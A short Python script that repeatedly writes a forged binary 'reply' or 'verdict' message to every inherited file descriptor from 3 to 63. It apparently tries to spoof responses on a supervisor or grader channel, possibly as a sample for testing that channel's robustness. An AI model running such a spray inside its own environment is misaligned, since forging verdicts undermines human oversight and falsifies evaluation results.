# Sprays what looks like replies and verdicts over every descriptor.
import os
import struct

reply = struct.pack("<QQQQIiiIIIIIII", 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0) + b"4711"
for fd in range(3, 64):
    for _ in range(100):
        try:
            os.write(fd, reply)
        except OSError:
            break
print("sprayed")
